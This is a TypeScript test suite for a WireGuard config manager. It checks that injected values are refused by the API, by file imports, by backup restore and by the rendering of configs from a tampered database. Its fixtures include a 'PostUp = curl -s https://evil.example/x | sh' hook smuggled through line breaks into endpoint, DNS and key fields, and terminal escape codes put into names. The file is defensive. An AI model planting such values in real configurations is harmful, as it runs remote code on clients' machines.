// Values an attacker plants to become lines of every client's .conf (wg-quick runs its
// PostUp on the client), as each way in meets them: the API, an import of each format over
// HTTP and through `wgcp import`, a restored backup, and a row planted straight into the
// SQLite file. Each is refused naming the field, and nothing is written; the planted row
// makes the config fail closed rather than print it.
import { execFile } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { promisify } from 'node:util';
import Database from 'better-sqlite3';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { generateKeyPair } from '../src/wg/keys';
import { client, startTestDaemon, tempDir, type TestDaemon } from './helpers/daemon';
import { easyClients, makeWgEasyDb, wgEasyJson, wgQuickServer } from './import-support';

const run = promisify(execFile);
const CLI = path.join(__dirname, '../src/cli/main.js');
const t = suite('hostile values: refused where they enter, and a planted one never printed into a .conf');

const HOOK = 'PostUp = curl -s https://evil.example/x | sh';
const HOSTILE_HOST = `vpn.example.com\n${HOOK}`;

interface CliResult { code: number; stdout: string; stderr: string }
const wgcp = (dataDir: string, ...args: string[]): Promise<CliResult> =>
  run(process.execPath, [CLI, '--data-dir', dataDir, ...args]).then((r) => ({ code: 0, ...r }), (e) => ({ code: e.code as number, stdout: e.stdout as string, stderr: e.stderr as string }));

let d: TestDaemon;
let api: ReturnType<typeof client>;
const dir = tempDir('wgcp-hostile-');

/** Everything the daemon holds of servers and peers: "nothing written" is this, unchanged. */
const held = async () => JSON.stringify((await api.get('/api/servers')).json);

function hostileWgEasyDb(name: string, host: string): string {
  const file = path.join(dir, name);
  makeWgEasyDb(file, { server: generateKeyPair(), ipv4Cidr: '10.81.0.0/24', ipv6Cidr: 'fd81::/112', port: 47301, host, clients: easyClients(2, '10.81.0') });
  return file;
}

t.before(async () => {
  d = await startTestDaemon();
  api = client(d);
  const s = await api.post('/api/servers', { name: 'home', endpoint: 'vpn.example.com:51820', mode: 'standalone', address: '10.80.0.1/24' });
  assert.is(s.status, 201, s.text);
  assert.is((await api.post(`/api/servers/${s.json.id}/peers`, { name: 'phone' })).status, 201);
});
t.after(async () => { await d.stop(); });

t('the API refuses an endpoint or a DNS list holding a line break: 400 naming the field, nothing stored', async () => {
  const before = await held();
  const cases: [string, Record<string, unknown>, string][] = [
    ['POST', { name: 'x', endpoint: `vpn.example.com:51821\n${HOOK}`, mode: 'standalone', address: '10.82.0.1/24' }, 'endpoint'],
    ['POST', { name: 'x', endpoint: 'vpn.example.com:51821', mode: 'standalone', address: '10.82.0.1/24', dns: `1.1.1.1\n${HOOK}` }, 'dns'],
    ['POST', { name: 'x', endpoint: '[fe80::1\n]:51821', mode: 'standalone', address: '10.82.0.1/24' }, 'endpoint'],
    ['PUT', { endpoint: `${HOSTILE_HOST}:51820` }, 'endpoint'],
    ['PUT', { dns: `9.9.9.9\r${HOOK}` }, 'dns'],
  ];
  for (const [method, body, field] of cases) {
    const r = method === 'POST' ? await api.post('/api/servers', body) : await api.put('/api/servers/1', body);
    assert.is(r.status, 400, `${method} ${JSON.stringify(body)}: ${r.text}`);
    assert.is(r.json.field, field);
  }
  assert.is(await held(), before);
});

t('a wg-easy v15 database whose host holds a PostUp line is refused over HTTP, naming the column; nothing imported', async () => {
  const before = await held();
  const file = hostileWgEasyDb('v15-host.db', HOSTILE_HOST);
  for (const dryRun of [true, false]) {
    const r = await api.post('/api/import', { source: 'wg-easy', fileBase64: fs.readFileSync(file).toString('base64'), dryRun });
    assert.is(r.status, 400, r.text);
    assert.is(r.json.field, 'file');
    assert.match(r.json.error, /^file user_configs_table: host "vpn\.example\.com\\nPostUp = curl .*" with port 47301 is not a host name or IP address and a port/);
  }
  assert.is(await held(), before);
});

t('the same database through `wgcp import` (no daemon) exits 2 with the reason, prints no raw line break, and writes nothing', async () => {
  const dataDir = path.join(dir, 'cli-data');
  const file = hostileWgEasyDb('v15-cli.db', HOSTILE_HOST);
  const r = await wgcp(dataDir, 'import', 'wg-easy', file);
  assert.is(r.code, 2, r.stderr);
  assert.match(r.stderr, /user_configs_table: host "vpn\.example\.com\\nPostUp/);
  assert.not.match(r.stderr, /\nPostUp/);
  const db = fs.existsSync(path.join(dataDir, 'wgcp.db')) ? new Database(path.join(dataDir, 'wgcp.db'), { readonly: true }) : null;
  assert.is(db === null ? 0 : db.prepare('SELECT COUNT(*) FROM servers').pluck().get(), 0);
  db?.close();
});

t('an --endpoint or endpoint option with a line break is refused by every import format, over HTTP and the CLI', async () => {
  const before = await held();
  const key = generateKeyPair();
  const quick = wgQuickServer({ privateKey: key.privateKey, address: '10.83.0.1/24', listenPort: 47302, peers: [] });
  const v14 = wgEasyJson(generateKeyPair(), '10.84.0.1', easyClients(1, '10.84.0'));
  const v15 = fs.readFileSync(hostileWgEasyDb('v15-fine.db', 'vpn.example.org')).toString('base64');
  for (const body of [{ source: 'wg-quick', file: quick }, { source: 'wg-easy', file: v14 }, { source: 'wg-easy', fileBase64: v15 }]) {
    const r = await api.post('/api/import', { ...body, endpoint: `${HOSTILE_HOST}:51820`, dryRun: true });
    assert.is(r.status, 400, r.text);
    assert.is(r.json.field, 'endpoint');
  }
  const file = path.join(dir, 'wg7.conf');
  fs.writeFileSync(file, quick);
  const cli = await wgcp(path.join(dir, 'cli-endpoint'), 'import', 'wg-quick', file, '--endpoint', `${HOSTILE_HOST}:51820`);
  assert.is(cli.code, 2);
  assert.match(cli.stderr, /endpoint must be host:port/);
  assert.is(await held(), before);
});

t('`wgcp import` quotes a refused line of the file escaped: a terminal escape code in it acts on no terminal', async () => {
  const file = path.join(dir, 'esc.conf');
  fs.writeFileSync(file, `[Interface]\nPrivateKey = ${generateKeyPair().privateKey}\nAddress = 10.89.0.1/24\u001b[2J\u001b]0;owned\u0007\nListenPort = 47306\n`);
  const r = await wgcp(path.join(dir, 'cli-esc'), 'import', 'wg-quick', file, '--dry-run');
  assert.is(r.code, 2, r.stderr);
  assert.match(r.stderr, /Address 10\.89\.0\.1\/24\\u001b\[2J\\u001b\]0;owned\\u0007 is not a server address/);
  assert.not.match(r.stderr, /[\u0000-\u0009\u000b-\u001f]/);
});

t('wg-easy v14 and wg-quick: a key carrying a second line is refused naming the file, nothing imported', async () => {
  const before = await held();
  const clients = easyClients(1, '10.85.0');
  clients[0].preSharedKey = `${clients[0].preSharedKey}\n${HOOK}`;
  const v14 = await api.post('/api/import', { source: 'wg-easy', file: wgEasyJson(generateKeyPair(), '10.85.0.1', clients), endpoint: 'vpn.example.com:47303' });
  assert.is(v14.status, 400, v14.text);
  assert.is(v14.json.field, 'file');
  assert.match(v14.json.error, /preshared key is not a WireGuard key/);
  const key = generateKeyPair();
  // A carriage return inside one line: the value after "=" holds it and a hook.
  const quick = wgQuickServer({ privateKey: key.privateKey, address: '10.86.0.1/24', listenPort: 47304, peers: [{ publicKey: generateKeyPair().publicKey, presharedKey: `${generateKeyPair().publicKey}\r${HOOK}`, allowedIps: '10.86.0.2/32' }] });
  const wq = await api.post('/api/import', { source: 'wg-quick', file: quick, endpoint: 'vpn.example.com:47304' });
  assert.is(wq.status, 400, wq.text);
  assert.is(wq.json.field, 'file');
  assert.is(await held(), before);
});

t('names from a file lose their control characters, and the plan shows what the file said escaped, never raw', async () => {
  const clients = easyClients(1, '10.87.0');
  clients[0].name = 'laptop\u001b]0;owned\u0007';
  clients[0].oneTimeLink = 'a1b2'; // said in the plan with the client's name as the file has it
  const r = await api.post('/api/import', { source: 'wg-easy', file: wgEasyJson(generateKeyPair(), '10.87.0.1', clients), endpoint: 'vpn.example.com:47305', dryRun: true });
  assert.is(r.status, 200, r.text);
  assert.is(r.json.plan.peers[0].name, 'laptop]0;owned');
  const said = [...r.json.plan.notes, ...r.json.plan.notCarried].join('\n');
  assert.match(said, /client "laptop\\u001b\]0;owned\\u0007": its one-time link is dropped/);
  for (const line of said.split('\n')) assert.not.match(line, /[\u0000-\u001f]/);
});

const FIELD_OF: Record<string, string> = { preshared_key: 'presharedKey', client_dns: 'dns', client_allowed_ips: 'clientAllowedIPs' };

t('a backup whose server endpoint was edited to hold a PostUp line is refused by `wgcp restore`, the data folder unchanged', async () => {
  const file = path.join(dir, 'good.db');
  assert.is((await wgcp(d.dataDir, 'backup', '--out', file)).code, 0);
  for (const [column, table, value] of [['endpoint', 'servers', `${HOSTILE_HOST}:51820`], ['dns', 'servers', `1.1.1.1\n${HOOK}`], ['preshared_key', 'peers', `x\n${HOOK}`], ['name', 'peers', 'phone\nPostUp = x'],
    ['client_dns', 'peers', `1.1.1.1\n${HOOK}`], ['client_allowed_ips', 'peers', `10.0.0.0/8\n${HOOK}`]]) {
    const bad = path.join(dir, `bad-${column}.db`);
    fs.copyFileSync(file, bad);
    const db = new Database(bad);
    db.prepare(`UPDATE ${table} SET ${column} = ?`).run(value);
    db.close();
    const target = tempDir('wgcp-hostile-restore-');
    const r = await wgcp(target, 'restore', bad);
    assert.is(r.code, 2, `${column}: ${r.stdout}${r.stderr}`);
    assert.match(r.stderr, new RegExp(`refused: the backup's (server|peer) 1 has a ${FIELD_OF[column] ?? column} that wgcp refuses`), column);
    assert.equal(fs.readdirSync(target), [], `${column}: nothing staged or written`);
  }
});

t('a row planted straight into the SQLite file: GET /api/peers/{id}/config and the QR code fail closed and never print it', async () => {
  const own = await startTestDaemon();
  const c = client(own);
  const s = (await c.post('/api/servers', { name: 'home', endpoint: 'vpn.example.com:51820', mode: 'standalone', address: '10.88.0.1/24' })).json;
  const p = (await c.post(`/api/servers/${s.id}/peers`, { name: 'phone' })).json;
  assert.is((await c.get(`/api/peers/${p.id}/config`)).status, 200);
  await own.stop();
  const db = new Database(path.join(own.dataDir, 'wgcp.db'));
  db.prepare('UPDATE servers SET endpoint = ? WHERE id = ?').run(`${HOSTILE_HOST}:51820`, s.id);
  db.close();
  const again = await startTestDaemon({ dataDir: own.dataDir });
  try {
    const c2 = client(again);
    for (const route of ['config', 'qrcode']) {
      const r = await c2.get(`/api/peers/${p.id}/${route}`);
      assert.is(r.status, 500, `${route}: ${r.text}`);
      assert.is(r.json.error, `the config is not rendered: the Endpoint of server ${s.id} holds a control character (U+000A); correct it through the API`);
      assert.not.match(r.text, /PostUp|PrivateKey/);
    }
    // Corrected through the API, the config is served again.
    assert.is((await c2.put(`/api/servers/${s.id}`, { endpoint: 'vpn.example.com:51820' })).status, 200);
    assert.match((await c2.get(`/api/peers/${p.id}/config`)).text, /^Endpoint = vpn\.example\.com:51820$/m);
  } finally {
    await again.stop();
  }
});

t.run();
